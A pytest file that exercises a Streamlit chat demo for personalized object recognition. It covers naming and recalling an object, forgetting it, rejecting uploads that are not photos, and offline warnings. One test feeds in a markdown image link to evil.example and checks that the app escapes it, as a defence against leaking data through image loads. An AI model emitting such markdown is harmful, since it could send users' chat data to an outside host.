"""The chat's script runs as Streamlit runs it, over the fake world of plain colours."""

from pathlib import Path

import pytest

pytest.importorskip("streamlit", reason="Streamlit is not installed: the chat cannot run")
pytest.importorskip("langchain", reason="LangChain is not installed")

import streamlit as st
from streamlit.testing.v1 import AppTest

from pekit_agents.testing import fake_profile
from pekit_agents.tools.middleware import PersonalizationMiddleware

APP = Path(__file__).parents[3] / "examples" / "chat_ui" / "app.py"


@pytest.fixture
def chat(tmp_path, monkeypatch):
    monkeypatch.setenv("PEKIT_CHAT_DATA", str(tmp_path / "data"))
    monkeypatch.delenv("PEKIT_CHAT_MODEL", raising=False)
    opened = PersonalizationMiddleware.open
    monkeypatch.setattr(
        PersonalizationMiddleware,
        "open",
        lambda path, **options: opened(path, **{**options, "profile": fake_profile()}),
    )
    st.cache_resource.clear()
    yield AppTest.from_file(APP, default_timeout=30).run()
    st.cache_resource.clear()


def _say(chat, text, *photos):
    for photo in photos:
        chat.chat_input[0].upload("photo.png", photo, "image/png")
    chat.chat_input[0].set_value(text)
    chat.run()
    assert not chat.exception


def _said(chat):
    """Return (who, text, number of pictures) of each message."""
    return [
        (message.name, message.markdown[0].value, len(message.image))
        for message in chat.chat_message
    ]


def _things(chat):
    return [text.value for text in chat.sidebar.text]


def test_a_thing_is_introduced_and_called_by_its_name(chat, red, scene):
    assert _things(chat) == []
    _say(chat, "This is my motorcycle Ruby. Rebuilt in 2014.", red)
    _say(chat, "What is this?", scene)
    assert _things(chat) == ["Ruby, motorcycle"]
    asked, replied = _said(chat)[-2:]
    assert asked == ("user", "What is this?", 1)
    assert replied == (
        "assistant",
        "(Offline stand-in) This is Ruby. You told me: Rebuilt in 2014.",
        1,
    )


def test_what_is_not_recognised_is_not_boxed(chat, scene):
    _say(chat, "What is this?", scene)
    assert _said(chat)[-1][2] == 0
    assert "Nothing" in _said(chat)[-1][1]


def test_a_thing_can_be_forgotten_by_a_button(chat, red, scene):
    _say(chat, "This is my motorcycle Ruby.", red)
    (button,) = chat.sidebar.button
    button.click().run()
    assert _things(chat) == []
    _say(chat, "What is this?", scene)
    assert "Ruby" not in _said(chat)[-1][1]


def test_a_photo_may_come_without_words(chat, red):
    _say(chat, "", red)
    assert _said(chat)[0] == ("user", "What is this?", 1)


def test_a_file_that_is_no_photo_is_refused_and_not_kept(chat, tmp_path):
    _say(chat, "Look", b"no picture")
    assert "expected a photo" in chat.error[0].value
    assert _said(chat) == []
    assert not (tmp_path / "data" / "pictures").exists()


def test_no_text_loads_a_picture_from_elsewhere(chat):
    _say(chat, "![x](http://evil.example/?note)")
    assert _said(chat)[0][1] == "!\\[x](http://evil.example/?note)"


@pytest.mark.parametrize("model", [None, "openai:gpt-5.1"])
def test_the_page_says_when_no_model_replies(chat, monkeypatch, model):
    if model:
        monkeypatch.setenv("PEKIT_CHAT_MODEL", model)
        monkeypatch.setenv("OPENAI_API_KEY", "none")
        st.cache_resource.clear()
        chat.run()
    assert ["Offline stand-in" in box.value for box in chat.warning] == ([] if model else [True])
